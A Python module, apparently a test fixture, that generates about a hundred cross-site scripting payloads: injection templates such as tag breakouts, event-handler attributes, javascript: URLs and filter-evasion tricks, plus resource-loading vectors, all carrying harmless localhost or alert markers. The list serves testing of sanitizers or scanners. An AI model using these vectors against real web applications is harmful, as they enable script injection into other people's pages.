"""A hundred ways to write a script into a page, each of which says so when it runs or loads something."""

from itertools import product
from typing import Final

_SAYS: Final = ("alert(7)", "fetch('//127.0.0.1:9/')", "window.ran=7")
_WHOLE: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg onload={}>",
    "<svg><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>here</a>",
    "javascript:{}",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    "<math><mtext><style><img src=x onerror={}>",
    "<object data=javascript:{}>",
    "<form><button formaction=javascript:{}>",
    "<template><s><script>{}</script>",
    "<marquee onstart={}>",
    "<video><source onerror={}>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "{{% x %}}{{{{ {} }}}}",
    "<scr<script>ipt>{}</script>",
)
_LOADING: Final = (
    "<img src=//127.0.0.1:9/>",
    "<link rel=stylesheet href=//127.0.0.1:9/>",
    "<style>@import '//127.0.0.1:9/';</style>",
    "<meta http-equiv=refresh content=0;//127.0.0.1:9/>",
    "<base href=//127.0.0.1:9/>",
    "<video src=//127.0.0.1:9/ autoplay>",
    '"style="background:url(//127.0.0.1:9/)',
    "<svg><image href=//127.0.0.1:9/>",
    "<svg><use href=//127.0.0.1:9/#x>",
    "![x](http://127.0.0.1:9/)",
)
PAYLOADS: Final = tuple(whole.format(text) for text, whole in product(_SAYS, _WHOLE)) + _LOADING
